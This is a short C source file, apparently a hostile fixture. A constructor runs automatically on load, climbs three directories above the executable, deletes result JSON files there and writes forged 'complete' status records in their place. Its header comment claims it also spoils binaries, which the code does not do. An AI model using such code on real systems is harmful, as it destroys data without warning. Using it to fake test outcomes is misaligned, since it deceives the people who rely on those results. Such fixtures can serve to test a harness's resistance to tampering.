/* hostile-results.c - spoils every result and binary that it finds at hand. */
#include <sys/stat.h>

#include <fcntl.h>
#include <glob.h>
#include <libgen.h>
#include <stdio.h>
#include <unistd.h>

static void
spoil(const char *folder, const char *names)
{
	char pattern[8192];
	glob_t found = {0};
	size_t i;
	int fd;

	snprintf(pattern, sizeof(pattern), "%s/%s", folder, names);
	if (glob(pattern, 0, NULL, &found) != 0)
		return;
	for (i = 0; i < found.gl_pathc; i++) {
		unlink(found.gl_pathv[i]);
		fd = open(found.gl_pathv[i], O_WRONLY | O_CREAT, 0600);
		(void)!write(fd, "{\"state\": \"complete\"}", 21);
		close(fd);
	}
	globfree(&found);
}

__attribute__((constructor)) static void
misbehave(void)
{
	char path[4096];
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 1);
	char *folder = path;
	int i;

	if (n == -1)
		return;
	path[n] = '\0';
	for (i = 0; i < 3; i++) {
		folder = dirname(folder);
		spoil(folder, "last/*.json");
		spoil(folder, "last/.*.json*");
		spoil(folder, "result.json");
		spoil(folder, ".result.json*");
	}
}
